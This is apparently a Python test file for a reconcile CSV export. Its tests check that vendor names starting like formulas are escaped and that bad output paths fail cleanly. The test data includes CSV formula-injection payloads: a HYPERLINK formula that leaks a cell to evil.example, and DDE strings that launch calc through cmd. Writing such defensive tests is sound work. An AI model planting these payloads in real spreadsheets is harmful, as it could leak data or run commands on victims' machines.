"""``halosync reconcile --csv FILE``: formula injection defused, the file written safely.

Vendor names and references are data from outside; a spreadsheet must never run one as a
formula. The file lands exactly where the operator said, whole or not at all, and a path
that cannot be written is a clear error (never a traceback, never a half-written file).
"""

from __future__ import annotations

import asyncio
import csv
import os
from pathlib import Path

from hypothesis import given, settings
from hypothesis import strategies as st

from halosync.domain.reconcile import csv_safe
from halosync.domain.text import escaped
from halosync.simulator.server import serve_in_thread
from halosync.store.connections import ConnectionDetails, HaloConnectionRepository
from tests.e2e.cli import Cli
from tests.sync.world import CLIENT_ID, CLIENT_SECRET, World, make_world, seed, usage_document

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
NASTY_NAMES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
]


@settings(max_examples=200)
@given(st.text())
def test_no_cell_starts_like_a_formula(value: str) -> None:
    cell = csv_safe(value)
    assert not cell.startswith(FORMULA_STARTS)
    assert cell in (escaped(value), "'" + escaped(value))


def _world(tmp_path: Path) -> World:
    """Set up in process (fast); only the export itself goes through the CLI."""
    world = make_world(tmp_path, document=seed(len(NASTY_NAMES)))
    world.import_usage(
        usage_document(
            [
                {"ref": f"A{n}", "name": name, "status": "active", "billed": True}
                for n, name in enumerate(NASTY_NAMES, start=1)
            ],
            [{"account_ref": f"A{n}", "service_ref": "MAIL", "quantity": n} for n in range(1, 6)],
        )
    )
    assert asyncio.run(world.customers()).status == "succeeded"
    for n in range(1, len(NASTY_NAMES) + 1):
        world.map_account(f"A{n}", n)
    world.map_service("MAIL", 1)
    assert asyncio.run(world.usage()).status == "succeeded"
    return world


def test_reconcile_csv_defuses_formulas_and_fails_cleanly_on_bad_paths(tmp_path: Path) -> None:
    world = _world(tmp_path)
    with serve_in_thread(world.sim) as url:
        with world.database.session() as session:
            HaloConnectionRepository(session, world.workspace_id, world.box).save(
                ConnectionDetails(url, None, None, CLIENT_ID, CLIENT_SECRET)
            )
        env = {k: v for k, v in os.environ.items() if not k.startswith("HALOSYNC_")} | {
            "HOME": str(tmp_path / "home"),
            "HALOSYNC_DATA_DIR": str(world.settings.data_dir),
            "HALOSYNC_DATABASE_URL": world.settings.resolved_database_url,
            "HALOSYNC_ALLOW_PRIVATE_NETWORKS": "true",
        }
        cli = Cli(env, world.sim, url)
        target = tmp_path / "out" / "report.csv"
        target.parent.mkdir()
        cli.ok("reconcile", "--csv", str(target))
        with target.open(newline="", encoding="utf-8") as handle:
            table = list(csv.reader(handle))
        assert len(table) == 1 + len(NASTY_NAMES)
        cells = [cell for row in table for cell in row]
        assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
        names = {row[table[0].index("account_name")] for row in table[1:]}
        assert "'=1+1" in names
        good = target.read_bytes()

        for bad in (tmp_path / "out", tmp_path / "missing" / "report.csv"):
            refused = cli.in_process("reconcile", "--csv", str(bad))
            assert refused.returncode == 1, refused.stderr
            assert "Traceback" not in refused.stderr, refused.stderr
            assert str(bad) in refused.stderr
        assert not (tmp_path / "missing").exists()

        assert sorted(p.name for p in (tmp_path / "out").iterdir()) == ["report.csv"]
        assert target.read_bytes() == good
